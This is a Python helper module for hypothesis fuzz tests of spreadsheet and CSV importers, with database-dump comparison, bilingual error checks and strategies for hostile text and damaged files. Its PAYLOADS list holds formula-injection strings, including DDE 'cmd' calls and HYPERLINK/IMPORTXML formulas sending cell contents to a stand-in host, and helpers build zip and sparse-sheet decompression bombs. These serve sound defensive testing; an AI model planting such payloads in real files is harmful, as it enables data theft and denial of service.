"""What the fuzz tests of the importers share: a dump of the whole database to compare before and after an
import, the check that a refusal is the project's own error with a message in both languages, and
hypothesis strategies for hostile text and for damaged files."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Mapping, Sequence
from string import Formatter

from hypothesis import event
from hypothesis import strategies as st
from hypothesis.control import currently_in_test_context
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from sqlalchemy import Engine, select

from core.errors import ContentError, DomainError
from core.i18n import LANGUAGES, STRINGS, t
from store.db import snapshot
from store.schema import Base

# Ways a cell may start that a spreadsheet would evaluate, and whole payloads of the kind people try.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\r\n", "\n=")
PAYLOADS = (
    "=1+1", '=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3", "@SUM(1,2)", '=DDE("cmd";"/C calc";"x")', "\t=1+1", "\r=1+1", "=1\n=2", "'=1+1", "==1", "= 1",
    "＝1+1", "=A1", "=INDIRECT(\"meta!B1\")", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")", "@@", "=", "+", "-",
)
CONTROLS = "\x00\x01\x07\x08\x0b\x0c\x0e\x1b\x1f\x7f\x85\u2028\ufeff\ufffe\uffff"


class Blob(bytes):
    """A file's bytes that print as their length (a failing example names its strategy's arguments)."""

    def __repr__(self) -> str:
        return f"<{len(self)} bytes>"


def dump(engine: Engine) -> dict[str, list[tuple]]:
    """Every row of every table, in primary-key order: equal before and after means nothing changed (the
    change counter included)."""
    with snapshot(engine) as s:
        return {table.name: [tuple(r) for r in s.execute(select(table).order_by(*table.primary_key.columns))]
                for table in Base.metadata.sorted_tables}


def assert_translated(code: str, params: Mapping[str, object]) -> None:
    """`code` is in the string catalogue in both languages, and every placeholder of each has its value."""
    entry = STRINGS.get(code)
    assert entry is not None, f"no message in the catalogue for {code!r}"
    for lang in LANGUAGES:
        assert entry.get(lang), (code, lang)
        wanted = {name for _, name, _, _ in Formatter().parse(entry[lang]) if name}
        assert wanted <= set(params), f"{code} ({lang}) lacks {sorted(wanted - set(params))}"
        assert t(code, lang, **params)


def assert_clear_refusal(exc: BaseException) -> None:
    """A refusal is the project's own error — a DomainError, or a ContentError for a seed file — whose
    message (and each row's, for a table refused row by row) is in the catalogue in both languages."""
    if isinstance(exc, ContentError):
        for lang in LANGUAGES:
            assert exc.file and exc.problem_in(lang).strip()
        return
    assert isinstance(exc, DomainError), f"not a domain error: {type(exc).__name__}: {exc}"
    assert_translated(exc.code, exc.params)
    for problem in getattr(exc, "problems", ()):  # admin.org_import.RowErrors
        assert_translated(problem.key, problem.params)
    for plan in getattr(exc, "plans", ()):  # admin.status_workbook.ImportRefused
        if plan.error and plan.key:
            assert_translated(plan.key, plan.params)


# ── Text ─────────────────────────────────────────────────────────────────────


def hostile_text(*, max_size: int = 40, controls: bool = True, nul: bool = True) -> st.SearchStrategy[str]:
    """Text people should not be able to turn into a formula or a broken file: formula payloads, text
    starting like a formula, control characters (without NUL: `nul=False`, or none: `controls=False`),
    Chinese, and anything else."""
    if controls:
        chars = st.characters(codec="utf-8", exclude_characters=None if nul else "\x00")
        odd = st.sampled_from(CONTROLS if nul else CONTROLS.replace("\x00", ""))
    else:
        chars = st.characters(codec="utf-8", exclude_categories=("Cc", "Cs"), exclude_characters="\ufffe\uffff")
        odd = st.sampled_from("\u2028\ufeff\u200b")
    body = st.text(st.one_of(chars, odd, st.sampled_from("测试单位备注=+-@ ")), max_size=max_size)
    return st.one_of(
        st.sampled_from(PAYLOADS),
        st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), body),
        body,
        st.builds(lambda a, b: a + b, st.sampled_from(PAYLOADS), body),
    )


def mostly(usual: st.SearchStrategy, odd: st.SearchStrategy) -> st.SearchStrategy:
    """`usual` three times in four, else `odd`: enough ordinary input that some imports go through."""
    return st.sampled_from((usual, usual, usual, odd)).flatmap(lambda chosen: chosen)


def note(what: str) -> None:
    """Count an outcome in hypothesis's statistics (pytest --hypothesis-show-statistics); a no-op outside a
    property."""
    if currently_in_test_context():
        event(what)


def cjk_text(*, min_size: int = 1, max_size: int = 12) -> st.SearchStrategy[str]:
    return st.text(st.characters(min_codepoint=0x4E00, max_codepoint=0x9FFF), min_size=min_size, max_size=max_size)


# ── Files ────────────────────────────────────────────────────────────────────


def xlsx_of(rows: Sequence[Sequence[object]], *, title: str | None = None) -> bytes:
    """A workbook whose first sheet holds `rows` as openpyxl writes them — so a text starting with '=' becomes
    a formula, as someone typing it in Excel would make it — without the characters openpyxl refuses."""
    wb = Workbook()
    ws = wb.active
    if title:
        ws.title = title
    for row in rows:
        ws.append([ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in row])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


CSV_ENCODINGS = ("utf-8", "utf-8-sig", "gb18030", "utf-16", "latin-1")


def csv_of(rows: Sequence[Sequence[object]], *, encoding: str = "utf-8", delimiter: str = ",") -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=delimiter).writerows([["" if v is None else str(v) for v in row] for row in rows])
    return out.getvalue().encode(encoding, errors="replace")


@st.composite
def damaged(draw: st.DrawFn, data: bytes) -> bytes:
    """`data` cut short, with bytes overwritten, with a part of its zip cut short or garbled, or as it is."""
    how = draw(st.sampled_from(["as is"] * 4 + ["truncated", "flipped", "member", "tail"]))
    if how == "truncated" and data:
        return data[:draw(st.integers(0, len(data) - 1))]
    if how == "flipped" and data:
        raw = bytearray(data)
        for _ in range(draw(st.integers(1, 8))):
            raw[draw(st.integers(0, len(raw) - 1))] = draw(st.integers(0, 255))
        return bytes(raw)
    if how == "member" and data.startswith(b"PK"):
        return draw(rezipped(data))
    if how == "tail":
        return data + draw(st.binary(min_size=1, max_size=64))
    return data


@st.composite
def rezipped(draw: st.DrawFn, data: bytes) -> bytes:
    """The zip with one member's content cut short, garbled or replaced (a sheet's XML broken inside a
    sound zip, which a read-only workbook parses only as its rows are read)."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        members = [(m.filename, source.read(m)) for m in source.infolist()]
    target, original = draw(st.sampled_from(members))
    broken = draw(st.one_of(
        st.integers(0, max(len(original) - 1, 0)).map(lambda n: original[:n]),
        st.just(original.replace(b"<v>", b"<v>&#1;")),
        st.just(original.replace(b'r="', b'r="XFD1048576', 1)),
        st.binary(max_size=64)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, content in members:
            z.writestr(name, broken if name == target else content)
    return out.getvalue()


def sparse_sheet(data: bytes, *, last_row: int = 1_048_576, last_col: str = "XFD") -> bytes:
    """The workbook with its first sheet claiming `last_col`:`last_row` as its size and one cell there: a few
    kilobytes that a careless reader expands to a million rows of sixteen thousand cells."""
    def widen(xml: bytes) -> bytes:
        start, end = xml.index(b"<dimension"), xml.index(b"/>", xml.index(b"<dimension")) + 2
        xml = xml[:start] + f'<dimension ref="A1:{last_col}{last_row}"/>'.encode() + xml[end:]
        cell = f'<row r="{last_row}"><c r="{last_col}{last_row}" t="inlineStr"><is><t>x</t></is></c></row>'
        return xml.replace(b"</sheetData>", cell.encode() + b"</sheetData>")

    return with_member(data, "xl/worksheets/sheet1.xml", widen)


def zip_bomb(data: bytes, *, megabytes: int = 120) -> bytes:
    """The workbook with a part that unpacks to `megabytes` of nothing (a few hundred kilobytes packed)."""
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/media/padding.bin", b"\0" * (megabytes * 1024 * 1024))
    return out.getvalue()


def with_member(data: bytes, member: str, change) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        members = [(m.filename, source.read(m)) for m in source.infolist()]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, content in members:
            z.writestr(name, change(content) if name == member else content)
    return out.getvalue()
